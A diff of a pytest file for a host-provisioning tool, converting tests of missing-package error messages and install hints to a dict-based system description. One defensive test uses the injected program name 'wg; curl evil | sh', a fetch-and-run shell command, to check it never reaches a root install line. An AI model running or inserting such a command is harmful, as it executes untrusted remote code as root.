@@ -7,7 +7,7 @@ from pathlib import Path
 
 import pytest
 
-from provisioner.hosts.facts import OperatingSystem
+from provisioner.hosts.answers import wire
 from provisioner.hosts.preparation import FAMILIES, family_of, lacks
 from provisioner_host.machine import paths, shell
 from provisioner_host.observe import machine
@@ -28,7 +28,14 @@ DECODERS = """Decoders:
  VFS..D hevc                 HEVC (High Efficiency Video Coding)
  A....D aac                  AAC (Advanced Audio Coding)
 """
-ROCKY = OperatingSystem("rocky", ("rhel", "centos", "fedora"), "9.4")
+
+
+def named(name: str, *like: str) -> wire.SystemAnswer:
+    """A system as its host tells of it."""
+    return {"id": name, "version": "9.4", "like": list(like)}
+
+
+ROCKY = named("rocky", "rhel", "centos", "fedora")
 
 
 @pytest.mark.parametrize("system", sorted(FAMILIES))
@@ -41,14 +48,9 @@ def test_of_every_program_that_a_host_looks_for_it_is_known_what_brings_it(syste
 
 @pytest.mark.parametrize(
     "system",
-    [
-        OperatingSystem("debian"),
-        OperatingSystem("ubuntu", ("debian",)),
-        OperatingSystem("raspbian", ("debian",)),
-        OperatingSystem("linuxmint", ("ubuntu", "debian")),
-    ],
+    [named("debian"), named("ubuntu", "debian"), named("raspbian", "debian"), named("linuxmint", "ubuntu", "debian")],
 )
-def test_debian_and_what_is_like_it_gets_the_line_that_installs(system: OperatingSystem) -> None:
+def test_debian_and_what_is_like_it_gets_the_line_that_installs(system: wire.SystemAnswer) -> None:
     error = lacks("relay-viettel-1", system, ("wireguard-go", "ffmpeg", "nft", "systemd-run", "dbus", "wg", "ip"))
     packages = "dbus, ffmpeg, iproute2, nftables, systemd, wireguard-go, wireguard-tools"
     assert error.message == f"relay-viettel-1 lacks {packages}"
@@ -57,21 +59,23 @@ def test_debian_and_what_is_like_it_gets_the_line_that_installs(system: Operatin
     assert (error.object, error.exit_code) == ("relay-viettel-1", 5)
 
 
-@pytest.mark.parametrize(("system", "name"), [(OperatingSystem("arch"), "arch"), (OperatingSystem(), "its system")])
-def test_of_another_system_the_programs_are_named_and_no_package_is_made_up(system: OperatingSystem, name: str) -> None:
+@pytest.mark.parametrize(("system", "name"), [(named("arch"), "arch"), (named(""), "its system")])
+def test_of_another_system_the_programs_are_named_and_no_package_is_made_up(
+    system: wire.SystemAnswer, name: str
+) -> None:
     error = lacks("relay-viettel-1", system, ("wg", "nft"))
     assert error.message == "relay-viettel-1 lacks the programs nft, wg"
     assert error.hint == f"install on it what brings them: the package names of {name} are not known here"
 
 
 def test_what_a_host_calls_a_program_never_stands_in_a_line_for_root() -> None:
-    error = lacks("relay-viettel-1", OperatingSystem("debian"), ("nft", "wg; curl evil | sh"))
+    error = lacks("relay-viettel-1", named("debian"), ("nft", "wg; curl evil | sh"))
     assert error.message == "relay-viettel-1 lacks the programs nft, wg; curl evil | sh"
     assert "apt-get" not in error.hint
 
 
 def test_the_name_of_a_system_is_not_longer_than_a_name() -> None:
-    error = lacks("relay-viettel-1", OperatingSystem("x" * 5000), ("nft",))
+    error = lacks("relay-viettel-1", named("x" * 5000), ("nft",))
     assert len(error.hint) < 200
 
 
@@ -79,13 +83,13 @@ def test_the_name_of_a_system_is_not_longer_than_a_name() -> None:
     "system",
     [
         ROCKY,
-        OperatingSystem("almalinux", ("rhel", "centos", "fedora"), "9.5"),
-        OperatingSystem("rhel", ("fedora",), "9.4"),
-        OperatingSystem("centos", ("rhel", "fedora"), "9"),
-        OperatingSystem("ol", ("fedora",), "9.4"),
+        named("almalinux", "rhel", "centos", "fedora"),
+        named("rhel", "fedora"),
+        named("centos", "rhel", "fedora"),
+        named("ol", "fedora"),
     ],
 )
-def test_an_enterprise_linux_is_told_its_own_packages(system: OperatingSystem) -> None:
+def test_an_enterprise_linux_is_told_its_own_packages(system: wire.SystemAnswer) -> None:
     error = lacks("relay-vnpt-1", system, ("wg", "nft", "ss", "ip"))
     assert error.message == "relay-vnpt-1 lacks iproute, nftables, wireguard-tools"
     line = "dnf install -y iproute nftables wireguard-tools"
@@ -108,7 +112,7 @@ def test_an_ffmpeg_that_does_not_decode_what_cameras_send_is_a_precondition_that
     error = lacks("relay-vnpt-1", ROCKY, ("ffmpeg-decoders",))
     assert error.message == "relay-vnpt-1 lacks ffmpeg's decoders of H.264 and H.265"
     assert error.hint.startswith("put RPM Fusion's ffmpeg in the place of EPEL's")
-    debian = lacks("relay-vnpt-1", OperatingSystem("debian"), ("ffmpeg-decoders",))
+    debian = lacks("relay-vnpt-1", named("debian"), ("ffmpeg-decoders",))
     assert debian.hint.startswith("the ffmpeg that is first in its path")
 
 
